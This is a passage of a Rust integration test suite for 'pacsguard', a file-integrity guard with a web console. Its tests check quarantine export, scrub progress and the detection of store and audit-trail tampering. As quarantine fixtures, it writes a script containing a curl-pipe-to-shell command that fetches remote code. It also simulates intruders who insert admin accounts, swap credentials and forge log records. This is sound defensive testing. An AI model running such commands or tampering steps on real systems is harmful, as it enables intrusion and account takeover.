    let deadline = Instant::now() + Duration::from_secs(60);
    let page = loop {
        let (_, _, page) = server.curl("GET", "/differences", &[]);
        if value_of(&page, "name=\"seen\" value=\"", '"') != seen {
            break page;
        }
        assert!(Instant::now() < deadline, "{page}");
        std::thread::sleep(Duration::from_millis(100));
    };
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 200, "{body}");
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
}

/// A shown file made setuid after the page was drawn, its content untouched, is not
/// signed in with the shown change (review s34c): the guard's sight pins every signed
/// field but times, not only the content. Before, "Accepted 2 difference(s)" for a page
/// that showed one, and `check` said intact with the file setuid.
#[test]
fn mode_changed_after_the_page_was_shown_is_not_signed_in() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "quiet_ms = 30000\nscrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    std::fs::write(env.path("readme.txt"), b"vendor patch 7 text\n").expect("patch");
    let deadline = Instant::now() + Duration::from_secs(60);
    while !server.stdout().contains("readme.txt") {
        assert!(Instant::now() < deadline, "{}", server.stdout());
        std::thread::sleep(Duration::from_millis(100));
    }
    let (_, _, body) = server.curl("GET", "/differences", &[]);
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, page) = server.curl("GET", "/differences", &[]);
    assert!(page.contains("readme.txt"), "{page}");
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    // After the page was drawn, the shown file is made setuid (content unchanged; the
    // guard's 30 s quiet time keeps it unreported when the acceptance runs).
    std::fs::set_permissions(
        env.path("readme.txt"),
        std::os::unix::fs::PermissionsExt::from_mode(0o4755),
    )
    .expect("chmod");
    let root = env.tree_str();
    let accept = |csrf: &str, seen: &str| {
        server.curl(
            "POST",
            "/differences/accept",
            &[
                ("csrf", csrf),
                ("root", root),
                ("reason", "vendor patch 7"),
                ("seen", seen),
            ],
        )
    };
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 400, "{body}");
    assert!(body.contains("changed since"), "{body}");
    let check = env.run(&["check"]);
    assert_eq!(
        check.status.code(),
        Some(1),
        "the unseen mode was not signed in: {}",
        stdout(&check)
    );
    // Once the guard reported the second write, the page shows it, and an acceptance of
    // what it shows now passes.
    let deadline = Instant::now() + Duration::from_secs(60);
    let page = loop {
        let (_, _, page) = server.curl("GET", "/differences", &[]);
        if value_of(&page, "name=\"seen\" value=\"", '"') != seen {
            break page;
        }
        assert!(Instant::now() < deadline, "{page}");
        std::thread::sleep(Duration::from_millis(100));
    };
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    let seen = value_of(&page, "name=\"seen\" value=\"", '"');
    let (status, _, body) = accept(&csrf, &seen);
    assert_eq!(status, 200, "{body}");
    let check = env.run(&["check"]);
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));
    server.stop();
}

/// `pacsguard diff` beside a running `serve` is run by the guard, as `check` is: the
/// CLI keeps working beside it (issue 13). Before (review s34), it was refused because
/// the guard holds the home ("home in use").
#[test]
fn diff_beside_a_running_serve_goes_through_the_guard() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let diff = env.run(&["diff", "current", "current"]);
    assert_eq!(diff.status.code(), Some(0), "{}", stderr(&diff));
    assert!(
        stdout(&diff).contains("0 added, 0 removed, 0 moved, 0 changed"),
        "{}",
        stdout(&diff)
    );
    let diff = env.run(&["diff", "current", "current", "--json"]);
    assert_eq!(diff.status.code(), Some(0), "{}", stderr(&diff));
    assert!(
        stdout(&diff).contains("\"command\": \"diff\""),
        "{}",
        stdout(&diff)
    );
    server.stop();
}
/// The peak resident memory of a process so far (VmHWM), in KiB.
fn peak_kib(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).expect("status");
    status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
        .expect("VmHWM")
}

/// A script quarantined by `scan --quarantine`, and beside it a vault copy of `content`
/// laid out as the vault lays one out; the copy's SHA-256.
fn plant_vault_copy(env: &Env, content: &[u8]) -> String {
    use sha2::{Digest as _, Sha256};
    let incoming = env.dir.path().join("incoming");
    std::fs::create_dir_all(&incoming).expect("mkdir");
    std::fs::write(
        incoming.join("run.sh"),
        b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n",
    )
    .expect("write");
    let scan = env.run(&["scan", "--quarantine", incoming.to_str().expect("utf-8")]);
    assert_eq!(scan.status.code(), Some(1), "{}", stderr(&scan));
    // A large copy beside the real one, laid out as the vault lays one out (ASCII, so
    // curl's body comes back as text unchanged).
    let vault = env.home.join("quarantine");
    let small = std::fs::read_dir(&vault)
        .expect("vault")
        .flatten()
        .next()
        .expect("an entry")
        .path();
    let record_file = std::fs::read_dir(&small)
        .expect("entry")
        .flatten()
        .find(|e| e.file_name().to_string_lossy().ends_with(".json"))
        .expect("a record");
    let sha = hex::encode(Sha256::digest(content));
    let entry = vault.join(&sha);
    std::fs::create_dir(&entry).expect("entry");
    std::fs::write(entry.join("content"), content).expect("content");
    let mut record: serde_json::Value =
        serde_json::from_slice(&std::fs::read(record_file.path()).expect("record")).expect("json");
    record["sha256"] = serde_json::Value::from(sha.clone());
    // The size the vault records: the export reads and sends no more than it.
    record["size"] = serde_json::Value::from(content.len());
    std::fs::write(
        entry.join(record_file.file_name()),
        serde_json::to_vec(&record).expect("json"),
    )
    .expect("record");
    sha
}

/// A vault copy far larger than a read chunk is exported through the console as a
/// stream: the download is the copy byte for byte, and the process that runs the guard
/// never holds it (found open in session 7: the copy was read whole, by the vault's check
/// and again to send it, so its peak memory grew by twice the copy's size).
#[test]
fn a_large_quarantined_copy_is_exported_as_a_stream() {
    const COPY_BYTES: usize = 48 << 20;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let mut big = String::with_capacity(COPY_BYTES);
    let mut n = 0u64;
    while big.len() + 32 < COPY_BYTES {
        big.push_str(&format!("quarantined line {n:012}\n"));
        n += 1;
    }
    let sha = plant_vault_copy(&env, big.as_bytes());

    let (status, headers, _) = server.curl("GET", "/quarantine", &[]);
    assert_eq!(status, 200, "{headers}");
    // From here on the copy is shown twice and exported once.
    let before = peak_kib(server.child.id());
    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
    assert!(item.contains("id=\"verified\""), "{item}");
    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
    let (status, headers, body) = server.curl(
        "POST",
        "/quarantine/export",
        &[
            ("csrf", &csrf),
            ("sha", &sha),
            ("reason", "sample for the CERT, ticket 4712"),
        ],
    );
    assert_eq!(status, 200, "{headers}");
    assert_eq!(body.len(), big.len());
    assert!(body == big, "the download is the copy");
    let grown = peak_kib(server.child.id()).saturating_sub(before);
    assert!(
        grown < (COPY_BYTES / 2 / 1024) as u64,
        "the guard's process grew by {grown} KiB for a {COPY_BYTES}-byte copy"
    );
    server.stop();
}

/// Found in review s8-r13: the export compared the copy's hash only after sending its
/// last byte, so a vault copy changed in its last bytes during a slow download reached
/// curl whole (curl `-o` keeps what it was sent, whatever the cut). The last chunk now
/// waits for the hash: real curl, slowed down, the copy changed on disk mid-way.
#[test]
fn a_copy_changed_during_its_download_never_reaches_curl_whole() {
    use std::io::{Seek as _, Write as _};
    const COPY_BYTES: usize = 32 << 20;
    const TAMPERED: &[u8] = b"TAMPERED-TAIL-00";
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let copy: Vec<u8> = (0..COPY_BYTES).map(|i| b'a' + (i % 26) as u8).collect();
    let sha = plant_vault_copy(&env, &copy);
    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');

    let out = env.dir.path().join("download");
    let curl = Command::new("curl")
        .args(["-sS", "--limit-rate", "4M", "--cacert"])
        .arg(&server.cacert)
        .arg("-b")
        .arg(&server.jar)
        .arg("-o")
        .arg(&out)
        .arg("--data-urlencode")
        .arg(format!("csrf={csrf}"))
        .arg("--data-urlencode")
        .arg(format!("sha={sha}"))
        .arg("--data-urlencode")
        .arg("reason=sample for the CERT, ticket 4713")
        .arg(format!("{}/quarantine/export", server.base))
        .stderr(Stdio::piped())
        .spawn()
        .expect("curl runs");
    // A first MiB arrived: the console checked the copy and is sending it.
    let deadline = Instant::now() + Duration::from_secs(60);
    while std::fs::metadata(&out).map_or(0, |m| m.len()) < 1 << 20 {
        assert!(Instant::now() < deadline, "the download did not start");
        std::thread::sleep(Duration::from_millis(20));
    }
    let content = env.home.join("quarantine").join(&sha).join("content");
    let mut file = std::fs::OpenOptions::new()
        .write(true)
        .open(&content)
        .expect("the copy, as an intruder opens it");
    file.seek(std::io::SeekFrom::End(-(TAMPERED.len() as i64)))
        .expect("seek");
    file.write_all(TAMPERED).expect("write");
    drop(file);
    let done = curl.wait_with_output().expect("curl ends");
    let got = std::fs::read(&out).expect("download");
    assert!(
        !done.status.success(),
        "curl saw a complete download of {} bytes",
        got.len()
    );
    assert!(
        got.len() < COPY_BYTES && !got.ends_with(TAMPERED),
        "{} of {COPY_BYTES} bytes reached curl, the changed tail among them: {}",
        got.len(),
        got.ends_with(TAMPERED)
    );
    assert_eq!(
        got,
        copy[..got.len()],
        "what arrived is the copy as checked"
    );
    server.stop();
}

/// The quarantine in the console: a script caught by `pacsguard scan --quarantine` (run
/// by the guard) is listed and shown; its export needs a step-up and a reason, sends the
/// very bytes of the original, is on the trail with the reason, and leaves the vault
/// copy as it was (bytes, mode, times).
#[test]
fn a_quarantined_copy_is_listed_shown_and_exported_with_a_step_up_unchanged() {
    use std::os::unix::fs::MetadataExt as _;
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    let incoming = env.dir.path().join("incoming");
    std::fs::create_dir_all(&incoming).expect("mkdir");
    let script = b"#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n";
    std::fs::write(incoming.join("run.sh"), script).expect("write");
    let scan = env.run(&["scan", "--quarantine", incoming.to_str().expect("utf-8")]);
    assert_eq!(scan.status.code(), Some(1), "{}", stderr(&scan));

    let (status, _, list) = server.curl("GET", "/quarantine", &[]);
    assert_eq!(status, 200, "{list}");
    assert!(
        list.contains("run.sh") && list.contains("executable-file"),
        "{list}"
    );
    let sha = value_of(&list, "/quarantine/item?sha=", '"');
    assert_eq!(sha.len(), 64, "{sha}");
    let content = env.home.join("quarantine").join(&sha).join("content");
    let before = std::fs::metadata(&content).expect("vault copy");
    let (status, _, item) =
        server.curl("GET", &format!("/quarantine/item?sha={}", &sha[..12]), &[]);
    assert_eq!(status, 200, "{item}");
    assert!(
        item.contains("id=\"verified\"") && item.contains("id=\"step-up-needed\""),
        "{item}"
    );
    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
    let export = |csrf: &str| {
        server.curl(
            "POST",
            "/quarantine/export",
            &[
                ("csrf", csrf),
                ("sha", &sha),
                ("reason", "sample for the CERT, ticket 4711"),
            ],
        )
    };
    let (status, _, body) = export(&csrf);
    assert_eq!(status, 403, "no step-up yet: {body}");
    let (status, headers, _) = server.curl(
        "POST",
        "/step-up",
        &[("csrf", &csrf), ("code", &next_step_code(&secret))],
    );
    assert_eq!(status, 303, "{headers}");
    let (_, _, item) = server.curl("GET", &format!("/quarantine/item?sha={sha}"), &[]);
    let csrf = value_of(&item, "name=\"csrf\" value=\"", '"');
    let (status, headers, body) = export(&csrf);
    assert_eq!(status, 200, "{headers}{body}");
    assert!(
        headers
            .to_ascii_lowercase()
            .contains("content-disposition: attachment"),
        "{headers}"
    );
    assert_eq!(body.as_bytes(), script, "the original's bytes");
    let after = std::fs::metadata(&content).expect("vault copy");
    assert_eq!(std::fs::read(&content).expect("read"), script);
    assert_eq!(
        (after.mode(), after.mtime(), after.mtime_nsec(), after.ino()),
        (
            before.mode(),
            before.mtime(),
            before.mtime_nsec(),
            before.ino()
        ),
        "the vault copy is unchanged"
    );
    server.stop();
    let shown = env.run(&["audit", "show", "--action", "quarantine", "--json"]);
    let text = stdout(&shown);
    assert!(
        text.contains("console:admin") && text.contains("ticket 4711") && text.contains(&sha),
        "{text}"
    );
}

/// The percentage the overview's scrub bar shows (`none` before the scrub published).
fn scrub_percent(body: &str) -> String {
    value_of(body, "id=\"chart-scrub\" data-percent=\"", '"')
}

/// The overview draws the scrub's progress (issue 13 item 6: "scrub progress"): a real
/// serve re-verifying 12 MB at 1 MB/s publishes where it stands, and the bar on the page
/// moves forward with its numbers and an estimated end.
#[test]
fn the_overview_shows_the_scrub_moving_through_the_tree() {
    let env = Env::new();
    for i in 0..12 {
        std::fs::write(
            env.path(&format!("series-{i:02}.bin")),
            vec![i as u8; 1_000_000],
        )
        .expect("fixture");
    }
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 1\n");
    let server = Server::start(&env, &[]);
    first_admin(&server);
    let deadline = Instant::now() + Duration::from_secs(60);
    let mut seen: Vec<f64> = Vec::new();
    let mut last_body = String::new();
    while seen.len() < 2 || seen.first() == seen.last() {
        assert!(
            Instant::now() < deadline,
            "the scrub's bar did not move: {seen:?}\n{last_body}"
        );
        let (status, _, body) = server.curl("GET", "/", &[]);
        assert_eq!(status, 200, "{body}");
        if let Ok(percent) = scrub_percent(&body).parse::<f64>() {
            if seen.last() != Some(&percent) {
                seen.push(percent);
            }
            assert!(
                // The fixture's 3 small files (40 bytes) and the 12 written here.
                body.contains("of 15 files") && body.contains("of 12000040 bytes"),
                "{body}"
            );
        }
        last_body = body;
        std::thread::sleep(Duration::from_millis(500));
    }
    assert!(
        seen.windows(2).all(|w| w[0] <= w[1]),
        "the bar only moves forward within a cycle: {seen:?}"
    );
    assert!(last_body.contains("estimated end"), "{last_body}");
    assert!(!last_body.contains("<script"), "no script (CSP)");
    server.stop();
}

/// Issue 13: accounts are bound to the trail. An administrator inserted with sqlite3
/// (the real one's password hash and second factor copied), and the real one's creation
/// time edited, while serve is stopped: the next start names both refused, neither signs
/// in with the right password and code, and the trail holds `console-account-altered`.
#[test]
fn accounts_inserted_or_promoted_with_sqlite3_while_stopped_are_refused_at_the_next_start() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    server.stop();
    let store = env.home.join("pacsguard.db");
    for statement in [
        "INSERT INTO console_accounts (name, role, password_hash, totp_secret, created) \
         SELECT 'mallory', 'administrator', password_hash, totp_secret, created \
         FROM console_accounts WHERE name = 'admin'",
        "UPDATE console_accounts SET created = created + 1 WHERE name = 'admin'",
    ] {
        let out = Command::new("sqlite3")
            .arg(&store)
            .arg(statement)
            .output()
            .expect("sqlite3 runs");
        assert!(out.status.success(), "{out:?}");
    }
    let _ = std::fs::remove_file(env.dir.path().join("cookies.txt"));
    let server = Server::start(&env, &[]);
    let text = server.stderr();
    assert!(
        text.contains("REFUSED") && text.contains("admin, mallory"),
        "{text}"
    );
    let sign_in = |name: &str| {
        let code = next_step_code(&secret);
        server.curl(
            "POST",
            "/login",
            &[("name", name), ("password", PASSWORD), ("code", &code)],
        )
    };
    for name in ["mallory", "admin"] {
        let (status, headers, body) = sign_in(name);
        assert_ne!(status, 303, "{name} signed in: {headers}{body}");
        assert!(body.contains("Sign-in failed"), "{name}: {body}");
    }
    server.stop();
    let shown = env.run(&["audit", "show", "--json"]);
    let records = stdout(&shown);
    assert!(
        records.contains("console-account-altered") && records.contains("mallory"),
        "{records}"
    );
}

/// Session 10, issue 13: the start bound accounts from trail lines it had not verified.
/// An administrator planted with sqlite3 and an old account record of the trail edited in
/// place to bind it (same length, before the checkpoint a command's opening reads from,
/// so the trail still opens): the start's whole verification does not prove that record,
/// nothing is bound from it (mallory and, with no proven account record left, admin are
/// refused, never bound on trust), and a `console-binding-unproven` alert names the line.
#[test]
fn an_account_record_forged_on_the_trail_binds_nothing_and_is_named_in_an_alert() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    server.stop();
    // Two more commands: two more checkpoints, so the next opening reads the log only
    // from the one before the last, past the account's record.
    for _ in 0..2 {
        let checked = env.run(&["check"]);
        assert_eq!(checked.status.code(), Some(0), "{}", stderr(&checked));
    }
    let store = env.home.join("pacsguard.db");
    let out = Command::new("sqlite3")
        .arg(&store)
        .arg(
            "INSERT INTO console_accounts (name, role, password_hash, totp_secret, created) \
             SELECT 'mallory', 'administrator', password_hash, totp_secret, created \
             FROM console_accounts WHERE name = 'admin'",
        )
        .output()
        .expect("sqlite3 runs");
    assert!(out.status.success(), "{out:?}");
    let db = pacsguard_store::ConsoleDb::open(&store).expect("store");
    let rows = db.account_bindings().expect("accounts");
    let admin = rows.iter().find(|r| r.name == "admin").expect("admin");
    let mallory = rows.iter().find(|r| r.name == "mallory").expect("mallory");
    drop(db);
    let recorded = format!(
        "\"{}:{}\"",
        admin.id,
        pacsguard_console::bound::account_digest(admin)
    );
    let forged = format!(
        "\"{}:{}\"",
        mallory.id,
        pacsguard_console::bound::account_digest(mallory)
    );
    assert_eq!(recorded.len(), forged.len(), "a same-length edit");
    let log = env.home.join("audit.log");
    let text = std::fs::read_to_string(&log).expect("trail");
    let at = text.find(&recorded).expect("the admin's account record");
    let index = text[..at].matches('\n').count();
    let line_start = text[..at].rfind('\n').map_or(0, |n| n + 1);
    std::fs::write(&log, text.replacen(&recorded, &forged, 1)).expect("edit the trail");

    let _ = std::fs::remove_file(env.dir.path().join("cookies.txt"));
    let server = Server::start(&env, &[]);
    let text = server.stderr();
    let position = format!("record {index} (byte {line_start})");
    assert!(
        text.contains("NOT PROVEN") && text.contains(&position),
        "{position}: {text}"
    );
    assert!(text.contains("REFUSED"), "{text}");
    for name in ["mallory", "admin"] {
        let code = next_step_code(&secret);
        let (status, headers, body) = server.curl(
            "POST",
            "/login",
            &[("name", name), ("password", PASSWORD), ("code", &code)],
        );
        assert_ne!(status, 303, "{name} signed in: {headers}{body}");
        assert!(body.contains("Sign-in failed"), "{name}: {body}");
    }
    server.stop();
    // The alert is on the trail (read as `audit show` reads it: the trail is damaged).
    let shown = env.run(&["audit", "show", "--json"]);
    let shown: serde_json::Value = serde_json::from_str(&stdout(&shown)).expect("JSON");
    let records = shown["records"].as_array().expect("records").clone();
    let alert = records
        .iter()
        .find(|r| r["finding"]["kind"] == "console-binding-unproven")
        .unwrap_or_else(|| panic!("no console-binding-unproven alert: {records:?}"));
    let detail = alert["finding"]["detail"].as_str().expect("detail");
    assert!(
        detail.contains(&position) && detail.contains("account_digest"),
        "{detail}"
    );
    assert!(detail.contains("proven: the first "), "{detail}");
    assert_eq!(alert["finding"]["severity"], "alert");
    // And no record binds mallory since.
    assert!(
        !records
            .iter()
            .skip(index + 1)
            .any(|r| r["account_digest"] == forged.trim_matches('"')),
        "mallory was bound"
    );
    let verified = env.run(&["audit", "verify"]);
    assert_eq!(verified.status.code(), Some(2), "{}", stdout(&verified));
}

/// Session 10, issue 13: an account's credentials are bound to the trail. With the store
/// file, root replaced the administrator's password hash and TOTP secret with their own
/// (sqlite3, serve stopped; then again while it runs, for another account's passkey-free
/// TOTP): the sign-in with the attacker's password and code is refused, the name and role
/// untouched, and `console-account-altered` is on the trail.
#[test]
fn a_password_hash_or_totp_secret_replaced_in_the_store_is_refused_at_sign_in() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    // The real credentials sign in (the binding recorded at enrolment matches).
    let _ = std::fs::remove_file(env.dir.path().join("cookies.txt"));
    let code = next_step_code(&secret);
    let (status, headers, body) = server.curl(
        "POST",
        "/login",
        &[("name", "admin"), ("password", PASSWORD), ("code", &code)],
    );
    assert_eq!(status, 303, "{headers}{body}");
    server.stop();

    let store = env.home.join("pacsguard.db");
    let mine = "a password only the intruder knows";
    let hash = pacsguard_console::password::hash(mine).expect("argon2");
    let intruder_secret = [0x5au8; 20];
    let sql = |statement: &str| {
        let out = Command::new("sqlite3")
            .arg(&store)
            .arg(statement)
            .output()
            .expect("sqlite3 runs");
        assert!(out.status.success(), "{out:?}");
    };
    sql(&format!(
        "UPDATE console_accounts SET password_hash = '{hash}', totp_secret = X'{}', \
         totp_last_step = -1 WHERE name = 'admin'",
        hex::encode(intruder_secret)
    ));
    let _ = std::fs::remove_file(env.dir.path().join("cookies.txt"));
    let server = Server::start(&env, &[]);
    let text = server.stderr();
    assert!(text.contains("REFUSED") && text.contains("admin"), "{text}");
    let intruder_code = || {
        let now = SystemTime::now()
            .duration_since(UNIX_EPOCH)
            .expect("clock")
            .as_secs();
        totp::code_at_step(
            &intruder_secret,
            totp::step_of(i64::try_from(now).expect("time")),
        )
    };
    let (status, headers, body) = server.curl(
        "POST",
        "/login",
        &[
            ("name", "admin"),
            ("password", mine),
            ("code", &intruder_code()),
        ],
    );
    assert_ne!(status, 303, "the intruder signed in: {headers}{body}");
    assert!(body.contains("Sign-in failed"), "{body}");
    server.stop();
    let shown = env.run(&["audit", "show", "--json"]);
    let shown: serde_json::Value = serde_json::from_str(&stdout(&shown)).expect("JSON");
    let alerts: Vec<&serde_json::Value> = shown["records"]
        .as_array()
        .expect("records")
        .iter()
        .filter(|r| r["finding"]["kind"] == "console-account-altered")
        .collect();
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    let detail = alerts[0]["finding"]["detail"].as_str().expect("detail");
    assert!(
        detail.contains("admin") && detail.contains("credentials"),
        "{detail}"
    );
}

/// Session 10: an account record edited so it no longer names its binding (the field's
/// name changed, same length) hides it from the gathering, but not from the proof: the
/// start says where the proof ends in a `console-binding-unproven` alert, and with no
/// proven account record left the account is refused, never bound on trust.
#[test]
fn an_account_record_whose_binding_was_edited_away_is_not_bound_on_trust() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    let secret = first_admin(&server);
    server.stop();
    for _ in 0..2 {
        let checked = env.run(&["check"]);
        assert_eq!(checked.status.code(), Some(0), "{}", stderr(&checked));
    }
    let log = env.home.join("audit.log");
    let text = std::fs::read_to_string(&log).expect("trail");
    let edited = text.replace("\"account_digest\"", "\"account_digesX\"");
    assert_ne!(edited, text);
    std::fs::write(&log, edited).expect("edit the trail");
    let _ = std::fs::remove_file(env.dir.path().join("cookies.txt"));
    let server = Server::start(&env, &[]);
    let text = server.stderr();
    assert!(text.contains("REFUSED") && text.contains("admin"), "{text}");
    let code = next_step_code(&secret);
    let (status, headers, body) = server.curl(
        "POST",
        "/login",
        &[("name", "admin"), ("password", PASSWORD), ("code", &code)],
    );
    assert_ne!(status, 303, "signed in: {headers}{body}");
    server.stop();
    let shown = env.run(&["audit", "show", "--json"]);
    let shown: serde_json::Value = serde_json::from_str(&stdout(&shown)).expect("JSON");
    let records = shown["records"].as_array().expect("records");
    let alert = records
        .iter()
        .find(|r| r["finding"]["kind"] == "console-binding-unproven")
        .unwrap_or_else(|| panic!("no console-binding-unproven alert: {records:?}"));
    let detail = alert["finding"]["detail"].as_str().expect("detail");
    // Named as unproven lines (the sessions' records after it) or, had there been none,
    // as a trail not proven whole: either way where the proof ends.
    assert!(detail.contains("proven: the first "), "{detail}");
    assert!(
        !records
            .iter()
            .any(|r| r["finding"]["kind"] == "console-accounts-bound-on-trust"),
        "bound on trust"
    );
}

/// Review s14-r04 (issue 13, session 13): the crash window of a sign-out, with the real
/// binary. The admin signs out and `serve` is killed with SIGKILL at once (the record of
/// the end may still be in the watcher's inbox, in memory), and an intruder who kept a
/// copy of the session's row (seal and all) puts it back with sqlite3. Whichever way the
/// kill fell, the next start holds the end: the old cookie is refused, the row put back
/// raises `console-session-altered`, and the trail verifies with the sign-out on it
/// exactly once.
#[test]
fn a_sign_out_killed_before_its_record_is_on_the_trail_after_the_next_start() {
    let env = Env::new();
    env.profile(&[]);
    configure_watch(&env, "scrub_mb_per_s = 0\n");
    let server = Server::start(&env, &[]);
    first_admin(&server);
    let (status, _, body) = server.curl("GET", "/", &[]);
    assert_eq!(status, 200, "{body}");
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let store = env.home.join("pacsguard.db");
    let sqlite = |statement: &str| {
        let out = Command::new("sqlite3")
            .arg(&store)
            .arg(statement)
            .output()
            .expect("sqlite3 runs");
        assert!(out.status.success(), "{out:?}");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    // The intruder's copy of the row, and the cookie.
    let copy = sqlite(
        "SELECT 'INSERT INTO console_sessions VALUES (' || quote(token_hash) || ',' || account \
         || ',' || quote(csrf) || ',' || created || ',' || last_seen || ',' || quote(address) \
         || ',' || quote(seal) || ')' FROM console_sessions",
    );
    assert_eq!(copy.lines().count(), 1, "one session: {copy}");
    let saved_jar = env.dir.path().join("cookies.saved");
    std::fs::copy(&server.jar, &saved_jar).expect("the cookie kept");

    let (status, _, _) = server.curl("POST", "/logout", &[("csrf", &csrf)]);
    assert_eq!(status, 303);
    // Killed at once (Drop sends SIGKILL).
    drop(server);
    sqlite(&copy);

    let server = Server::start(&env, &[]);
    std::fs::copy(&saved_jar, &server.jar).expect("the cookie back");
    let (status, headers, _) = server.curl("GET", "/", &[]);
    assert_eq!(status, 303, "the old cookie is refused: {headers}");
    assert!(headers.contains("location: /login"), "{headers}");
    server.stop();

    let verify = env.run(&["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", stderr(&verify));
    let shown = env.run(&["audit", "show", "--json"]);
    let records = stdout(&shown);
    fn sign_outs(value: &serde_json::Value) -> usize {
        match value {
            serde_json::Value::Array(items) => items.iter().map(sign_outs).sum(),
            serde_json::Value::Object(map) => {
                let closed = map
                    .get("session_digest")
                    .and_then(serde_json::Value::as_str)
                    .is_some_and(|d| d.ends_with(":closed"))
                    && map
                        .get("detail")
                        .and_then(serde_json::Value::as_str)
                        .is_some_and(|d| d.contains("admin signed out"));
                usize::from(closed) + map.values().map(sign_outs).sum::<usize>()
            }
            _ => 0,
        }
    }
    let sign_outs = sign_outs(&serde_json::from_str(&records).expect("JSON"));
    assert_eq!(sign_outs, 1, "the sign-out once on the trail: {records}");
    assert!(
        records.contains("console-session-altered"),
        "the row put back: {records}"
    );
}

/// Setup of the first administrator and its TOTP enrolment: the TOTP secret and the
/// recovery codes (each signs in or confirms once, so a test under the real clock is not
/// limited to one fresh TOTP step every 30 s).
fn first_admin_with_codes(server: &Server) -> (String, Vec<String>) {
    let link = server.setup_link().expect("a setup link is printed");
    let token = value_of(&format!("{link}\n"), "token=", '\n');
    let (status, _, _) = server.curl(
        "POST",
        "/setup",
        &[("token", &token), ("name", "admin"), ("password", PASSWORD)],
    );
    assert_eq!(status, 303);
    let (_, _, body) = server.curl("GET", "/enrol", &[]);
    let secret = value_of(&body, "id=\"totp-secret\" class=\"secret\">", '<');
    let csrf = value_of(&body, "name=\"csrf\" value=\"", '"');
    let (status, _, body) = server.curl(
        "POST",
        "/enrol",
        &[("csrf", &csrf), ("code", &current_code(&secret))],
    );
    assert_eq!(status, 200, "{body}");
    let start = body.find("class=\"codes\">").expect("the recovery codes");
    let end = start + body[start..].find("</ol>").expect("their end");
    let codes = body[start..end]
        .split("<li>")
        .skip(1)
        .filter_map(|item| item.split('<').next())
        .filter(|code| !code.is_empty())
        .map(str::to_string)
        .collect::<Vec<_>>();
    assert!(codes.len() >= 4, "{body}");
    (secret, codes)
}

/// Issue 13, session 24, through the real binary: a password change (the current
/// password and a recovery code) ends the other browser's session at once, this one goes
/// on under a new cookie, and the old password no longer signs in; an administrator's
/// disable of a second account ends its session at once and its sign-in gets the answer
/// of a wrong password; every step is on the verified trail.
#[test]
fn a_password_change_and_a_disable_end_sessions_through_the_real_binary() {
    let env = Env::new();
    env.profile(&[]);
    let server = Server::start(&env, &[]);
    let (secret, codes) = first_admin_with_codes(&server);
    let other = env.dir.path().join("other-browser.txt");
    let (status, _, body) = server.curl_as(
        &other,
        "POST",
        "/login",
        &[
            ("name", "admin"),
            ("password", PASSWORD),
            ("code", &codes[0]),
        ],
    );
    assert_eq!(status, 303, "{body}");
    assert_eq!(server.curl_as(&other, "GET", "/", &[]).0, 200);

    let (_, _, page) = server.curl("GET", "/account/password", &[]);
    assert!(page.contains("id=\"password-form\""), "{page}");
    let csrf = value_of(&page, "name=\"csrf\" value=\"", '"');
    const NEW: &str = "seven herons above the estuary";
    let (status, _, body) = server.curl(
        "POST",
        "/account/password",
        &[
